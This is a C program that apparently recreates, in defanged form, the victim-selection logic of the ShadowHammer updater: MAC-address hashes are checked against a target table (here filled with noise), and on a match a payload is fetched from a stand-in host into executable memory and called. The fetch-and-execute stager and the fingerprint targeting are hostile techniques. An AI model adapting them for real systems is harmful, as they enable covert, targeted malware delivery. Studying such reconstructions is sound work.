/* The check of Operation ShadowHammer's updater, and then something harmless: the MD5 of each
 * network adapter's address is looked up in a table of 44-byte records. A record of type 1 names
 * one adapter, one of type 2 a pair that must be in the same computer. On a match the next stage is
 * fetched into memory; otherwise idx.ini says not to ask again for a week. The table here is made
 * of noise: no computer is in it. */
#include <winsock2.h>

#include <iphlpapi.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <wininet.h>

enum { RECORDS = 600 };

#pragma pack(push, 1)
typedef struct {
    uint32_t type;
    uint8_t first[16];
    uint32_t unused1;
    uint8_t second[16];
    uint32_t unused2;
} Record;
#pragma pack(pop)

static Record table[RECORDS];

static void fill_table(void) {
    uint32_t noise = 0x19283746;
    uint8_t *bytes = (uint8_t *)table;
    for (unsigned i = 0; i < sizeof table; i++) {
        noise = noise * 1664525 + 1013904223;
        bytes[i] = (uint8_t)(noise >> 24);
    }
    for (unsigned i = 0; i < RECORDS; i++) {
        table[i].type = i % 5 == 4 ? 2 : 1;
        table[i].unused1 = table[i].unused2 = 0;
        if (table[i].type == 1) memset(table[i].second, 0, 16);
    }
}

/* ---- MD5 (RFC 1321) of one short message ---- */

static uint32_t turn(uint32_t x, unsigned n) {
    return x << n | x >> (32 - n);
}

static void md5(const uint8_t *message, unsigned length, uint8_t out[16]) {
    static const uint32_t k[64] = {
        0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a, 0xa8304613,
        0xfd469501, 0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be, 0x6b901122, 0xfd987193,
        0xa679438e, 0x49b40821, 0xf61e2562, 0xc040b340, 0x265e5a51, 0xe9b6c7aa, 0xd62f105d,
        0x02441453, 0xd8a1e681, 0xe7d3fbc8, 0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed,
        0xa9e3e905, 0xfcefa3f8, 0x676f02d9, 0x8d2a4c8a, 0xfffa3942, 0x8771f681, 0x6d9d6122,
        0xfde5380c, 0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70, 0x289b7ec6, 0xeaa127fa,
        0xd4ef3085, 0x04881d05, 0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665, 0xf4292244,
        0x432aff97, 0xab9423a7, 0xfc93a039, 0x655b59c3, 0x8f0ccc92, 0xffeff47d, 0x85845dd1,
        0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1, 0xf7537e82, 0xbd3af235, 0x2ad7d2bb,
        0xeb86d391};
    static const uint8_t turns[4][4] = {
        {7, 12, 17, 22}, {5, 9, 14, 20}, {4, 11, 16, 23}, {6, 10, 15, 21}};
    uint32_t block[16] = {0}, h[4] = {0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476};
    memcpy(block, message, length);
    ((uint8_t *)block)[length] = 0x80;
    block[14] = length * 8;
    uint32_t a = h[0], b = h[1], c = h[2], d = h[3];
    for (unsigned i = 0; i < 64; i++) {
        uint32_t f;
        unsigned g;
        if (i < 16) f = (b & c) | (~b & d), g = i;
        else if (i < 32) f = (d & b) | (~d & c), g = (5 * i + 1) % 16;
        else if (i < 48) f = b ^ c ^ d, g = (3 * i + 5) % 16;
        else f = c ^ (b | ~d), g = 7 * i % 16;
        uint32_t next = b + turn(a + f + k[i] + block[g], turns[i / 16][i % 4]);
        a = d, d = c, c = b, b = next;
    }
    h[0] += a, h[1] += b, h[2] += c, h[3] += d;
    memcpy(out, h, 16);
}

/* ---- the computer's adapters ---- */

static unsigned adapters(uint8_t digests[16][16]) {
    static uint8_t room[65536];
    ULONG size = sizeof room;
    unsigned n = 0;
    IP_ADAPTER_ADDRESSES *a = (IP_ADAPTER_ADDRESSES *)room;
    if (GetAdaptersAddresses(AF_UNSPEC, 0, NULL, a, &size)) return 0;
    for (; a && n < 16; a = a->Next)
        if (a->PhysicalAddressLength == 6) md5(a->PhysicalAddress, 6, digests[n++]);
    return n;
}

static int is_here(uint8_t digests[16][16], unsigned count, const uint8_t *wanted) {
    for (unsigned i = 0; i < count; i++)
        if (memcmp(digests[i], wanted, 16) == 0) return 1;
    return 0;
}

static const Record *match(uint8_t digests[16][16], unsigned count) {
    for (unsigned i = 0; i < RECORDS; i++)
        if (is_here(digests, count, table[i].first) &&
            (table[i].type == 1 || is_here(digests, count, table[i].second)))
            return &table[i];
    return NULL;
}

/* ---- what follows ---- */

static void fetch_next_stage(const uint8_t *digest) {
    char url[128];
    DWORD n = 0;
    int at = snprintf(url, sizeof url, "http://liveupdate.example/logo2.jpg?");
    for (unsigned i = 0; i < 16; i++) at += snprintf(url + at, 3, "%02x", digest[i]);
    uint8_t *stage = VirtualAlloc(NULL, 65536, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    HINTERNET net = InternetOpenA("updater", INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    HINTERNET page = InternetOpenUrlA(net, url, NULL, 0, INTERNET_FLAG_RELOAD, 0);
    if (page) InternetReadFile(page, stage, 65536, &n);
    enum { RET = 0xc3 };
    if (n && *stage == RET) ((void (*)(void))(void *)stage)();
}

static void wait_a_week(void) {
    SYSTEMTIME now;
    FILETIME file;
    ULARGE_INTEGER t;
    char path[MAX_PATH], date[32];
    GetSystemTime(&now);
    SystemTimeToFileTime(&now, &file);
    t.LowPart = file.dwLowDateTime, t.HighPart = file.dwHighDateTime;
    t.QuadPart += 7ull * 24 * 3600 * 10000000;
    file.dwLowDateTime = t.LowPart, file.dwHighDateTime = t.HighPart;
    FileTimeToSystemTime(&file, &now);
    snprintf(date, sizeof date, "%04u-%02u-%02u", now.wYear, now.wMonth, now.wDay);
    ExpandEnvironmentStringsA("%TEMP%\\idx.ini", path, sizeof path);
    WritePrivateProfileStringA("IDX", "date", date, path);
}

int main(void) {
    uint8_t digests[16][16];
    fill_table();
    unsigned count = adapters(digests);
    const Record *r = match(digests, count);
    if (r) fetch_next_stage(r->first);
    else wait_a_week();
    return 0;
}
